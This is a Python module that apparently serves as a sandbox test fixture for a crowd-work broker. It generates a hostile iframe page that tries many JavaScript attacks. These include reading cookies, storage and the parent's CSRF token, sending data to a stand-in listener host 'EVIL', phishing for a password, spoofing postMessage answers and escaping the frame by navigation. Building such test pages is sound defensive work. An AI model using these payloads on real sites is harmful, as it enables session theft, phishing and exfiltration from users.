"""A page of a hostile requester: what it tries from within its frame, each attempt noting what it got."""

# Every attempt is a function that gives what it got hold of, or nothing; EVIL is a listener on another host. What only
# shows at a listener (EVIL's, or the broker's own log of requests) carries the attempt's name in its address.
ATTACKS = {
    # reading what belongs to the page around, or to the person
    "cookie": "return document.cookie",
    "cookie-store": "return (await cookieStore.getAll()).map((one) => one.name).join()",
    "local-storage": "localStorage.setItem('mine', '1'); return JSON.stringify({...localStorage})",
    "session-storage": "sessionStorage.setItem('mine', '1'); return 'session storage'",
    "indexed-db": "await done(indexedDB.open('x')); return 'a database'",
    "caches": "await caches.open('x'); return 'a cache'",
    "parent-document": "return parent.document.title",
    "top-document": "return top.document.cookie + top.document.title",
    "parent-storage": "return JSON.stringify({...parent.localStorage})",
    "parent-token": "return parent.document.querySelector('meta[name=csrf-token]').content",
    "parent-function": "return parent.eval('location.href')",
    "frame-element": "return frameElement.getAttribute('sandbox') ?? 'the element'",
    "unsandbox": "frameElement.removeAttribute('sandbox'); return 'took it off'",
    "parent-location": "return parent.location.href",
    "domain": "document.domain = document.domain; return document.domain && 'a domain'",
    "origin": "return self.origin === 'null' ? '' : self.origin",
    "broadcast": "return await heard(new BroadcastChannel('victim'))",
    "referrer": "return document.referrer.includes('/work/J') ? document.referrer : ''",
    # the broker's own doors, with the person's session
    "fetch-broker": "return await (await fetch('/work/earnings?by=fetch-broker', {credentials: 'include'})).text()",
    "fetch-blind": "await fetch('/work/earnings?by=fetch-blind', {mode: 'no-cors', credentials: 'include'}); return 'sent'",
    "post-broker": "await fetch('/work/return?by=post-broker', {method: 'POST', mode: 'no-cors', credentials: 'include'}); return 'sent'",
    "xhr-broker": "return await xhr('/work/earnings?by=xhr-broker')",
    "frame-broker": "return (await framed('/work/earnings?by=frame-broker')).contentDocument.body.innerText",
    "image-broker": "await loaded('img', '/work/earnings?by=image-broker'); return 'loaded'",
    "script-broker": "await loaded('script', '/work/earnings?by=script-broker'); return 'loaded'",
    # sending what is known to somebody else
    "fetch": "await fetch(EVIL + 'fetch', {mode: 'no-cors'}); return 'sent'",
    "xhr": "return await xhr(EVIL + 'xhr')",
    "beacon": "navigator.sendBeacon(EVIL + 'beacon', 'x')",
    "websocket": "await opened(new WebSocket(EVIL.replace('http', 'ws') + 'websocket')); return 'open'",
    "events": "await opened(new EventSource(EVIL + 'events')); return 'open'",
    "image": "await loaded('img', EVIL + 'image')",
    "style": "document.body.style.background = `url(${EVIL}style)`; await soon()",
    "import-style": "add('style', `@import url(${EVIL}import-style)`); await soon()",
    "sheet": "await loaded('link', EVIL + 'sheet', {rel: 'stylesheet'})",
    "font": "await new FontFace('x', `url(${EVIL}font)`).load(); return 'a font'",
    "video": "await loaded('video', EVIL + 'video')",
    "audio": "await loaded('audio', EVIL + 'audio')",
    "object": "await loaded('object', EVIL + 'object')",
    "embed": "await loaded('embed', EVIL + 'embed')",
    "frame": "await framed(EVIL + 'frame')",
    "script": "await loaded('script', EVIL + 'script')",
    "module": "await import(EVIL + 'module'); return 'imported'",
    "svg": "await loaded('img', `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}svg'/></svg>`)",
    "ping": "add('a', '', {href: '#x', ping: EVIL + 'ping'}).click(); await soon()",
    "worker": "await worked(`fetch('${EVIL}worker', {mode: 'no-cors'})`)",
    "service-worker": "await navigator.serviceWorker.register('/static/x.js'); return 'registered'",
    "prefetch": "add('link', '', {rel: 'prefetch', href: EVIL + 'prefetch'}); await soon()",
    "preload": "add('link', '', {rel: 'preload', as: 'image', href: EVIL + 'preload'}); await soon()",
    "module-preload": "add('link', '', {rel: 'modulepreload', href: EVIL + 'module-preload'}); await soon()",
    "prerender": "add('script', JSON.stringify({prerender: [{source: 'list', urls: [EVIL + 'prerender']}]}), {type: 'speculationrules'}); await soon()",
    "report": "new ReportingObserver(() => 0).observe(); add('meta', '', {httpEquiv: 'Content-Security-Policy', content: `report-uri ${EVIL}report`}); await soon()",
    "popup": "return open(EVIL + 'popup') && 'a window'",
    "popup-form": "formed('post', EVIL + 'popup-form', '_blank'); await soon()",
    # the person's attention and devices
    "dialog": "return confirm('Log in again?') ? 'confirmed' : ''",
    "prompt": "return prompt('Password?') ?? ''",
    "full-screen": "await document.documentElement.requestFullscreen(); return 'the whole screen'",
    "clipboard": "return 'read:' + await navigator.clipboard.readText()",
    "place": "return await new Promise((yes) => navigator.geolocation.getCurrentPosition(() => yes('a place'), () => yes('')))",
    "camera": "await navigator.mediaDevices.getUserMedia({video: true}); return 'a camera'",
    "top-navigation": "top.location = EVIL + 'top-navigation'; await soon()",
    "parent-navigation": "parent.location = EVIL + 'parent-navigation'; await soon()",
    "spoofed-message": "for (const type of ['crowd-submitted', 'answer', 'submit']) parent.postMessage({type, answer: {stolen: 1}}, '*'); await soon()",
}
PAGE = """<form><input name="a" value="robot"></form><p id="end">…</p><script>
const EVIL = %(evil)s;
const got = {};
const soon = (time = 150) => new Promise((done) => setTimeout(done, time));
const within = (what) => Promise.race([what, soon(1500).then(() => '')]);
const done = (request) => new Promise((yes, no) => { request.onsuccess = yes; request.onerror = no; });
const opened = (socket) => new Promise((yes, no) => { socket.onopen = yes; socket.onerror = no; });
const heard = (channel) => new Promise((yes) => { channel.onmessage = ({data}) => yes(data); });
const add = (tag, text = '', more = {}) => document.body.appendChild(Object.assign(document.createElement(tag), more, text ? {textContent: text} : {}));
const loaded = (tag, url, more = {}) => new Promise((yes, no) => {
  const one = Object.assign(document.createElement(tag), more, {onload: yes, onerror: no, onloadedmetadata: yes});
  one[tag === 'link' ? 'href' : tag === 'object' ? 'data' : 'src'] = url;
  document.body.append(one);
});
const framed = async (url) => { const one = add('iframe', '', {src: url}); await soon(400); return one; };
const xhr = (url) => new Promise((yes, no) => {
  const one = new XMLHttpRequest(); one.open('GET', url); one.withCredentials = true; one.onload = () => yes(one.responseText || 'sent'); one.onerror = no; one.send();
});
const worked = async (code) => { new Worker(URL.createObjectURL(new Blob([code]))); await soon(400); };
const formed = (method, action, target) => HTMLFormElement.prototype.submit.call(add('form', '', {method, action, target}));
const attacks = {%(attacks)s};
addEventListener('load', async () => {
  for (const [name, attack] of Object.entries(attacks)) {
    try { const found = await within(attack()); if (found) got[name] = String(found).slice(0, 200); } catch { /* refused */ }
  }
  globalThis.got = got;
  document.getElementById('end').style.height = '3000px'; // which the page around sees
});
</script>"""
# Ways in which a frame may leave for elsewhere; each needs a frame of its own.
TRICKS = {
    "location": "location.href = EVIL",
    "replace": "location.replace(EVIL)",
    "assign-broker": "location.assign('/work/earnings?by=assign-broker')",
    "meta": "add('meta', {httpEquiv: 'refresh', content: '0;url=' + EVIL})",
    "link": "add('a', {href: EVIL}).click()",
    "link-top": "add('a', {href: EVIL, target: '_top'}).click()",
    "link-parent": "add('a', {href: EVIL, target: '_parent'}).click()",
    "form-get": "real(add('form', {method: 'get', action: EVIL}))",
    "form-post": "real(add('form', {method: 'post', action: EVIL}))",
    "form-broker": "real(add('form', {method: 'post', action: '/work/return?by=form-broker'}))",
    "data": "location = `data:text/html,<img src='${EVIL}'>`",
    "blob": "location = URL.createObjectURL(new Blob([`<img src='${EVIL}'>`], {type: 'text/html'}))",
    "javascript": "location = `javascript:'<img src=\"${EVIL}\">'`",
    "write": "document.open(); document.write(`<img src='${EVIL}'><meta http-equiv=refresh content='0;url=${EVIL}'>`); document.close()",
    "self": "open(EVIL, '_self')",
    "history": "history.pushState({}, '', '?x'); history.go(-3)",
    "svg-link": "add('div', {innerHTML: `<svg><a href='${EVIL}'><text>x</text></a></svg>`}).querySelector('a').dispatchEvent(new MouseEvent('click'))",
    "base": "add('base', {href: EVIL}); add('img', {src: 'relative'})",
}
TRICK = """<form></form><script>
const EVIL = %(evil)s;
const add = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
const clean = add('iframe', {srcdoc: ''});
// The method of another realm, so that our own script in the page does not catch it.
const real = (form) => { const made = clean.contentWindow?.HTMLFormElement?.prototype.submit; (made ?? HTMLFormElement.prototype.submit).call(form); };
addEventListener('load', () => { document.body.dataset.tried = 'yes'; setTimeout(() => { %(trick)s }, 0); });
</script>"""


def page(evil, without=()):
    """The hostile page; `evil` is where the listener is."""
    attacks = ",\n".join(f"{name!r}: async () => {{ {code} }}" for name, code in ATTACKS.items() if name not in without)
    return PAGE % {"evil": repr(evil + "/"), "attacks": attacks}


def trick(evil, name):
    """A page that tries one way to leave."""
    return TRICK % {"evil": repr(f"{evil}/{name}"), "trick": TRICKS[name]}
